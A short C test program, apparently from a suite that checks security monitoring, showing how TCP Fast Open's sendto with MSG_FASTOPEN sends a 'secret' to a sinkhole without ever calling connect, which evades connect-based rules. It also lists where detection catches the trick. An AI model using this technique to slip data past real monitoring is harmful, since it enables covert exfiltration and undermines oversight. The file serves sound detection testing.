// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Connects and sends in one call, sendto(2) with MSG_FASTOPEN: connect is never called.
 * Known from: TCP Fast Open (RFC 7413), against rules on connect(2).
 * First: sendto at entry and exit
 * Second: the cgroup hook's copy of the address; inet_sock_set_state; the sinkhole's record
 */
#include "trick.h"

int main(void)
{
	struct sockaddr_in to = sink(8080);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (sendto(fd, secret(), strlen(secret()), MSG_FASTOPEN, (void *)&to, sizeof(to)) < 0)
		blocked();
	finish(fd);
	performed();
}
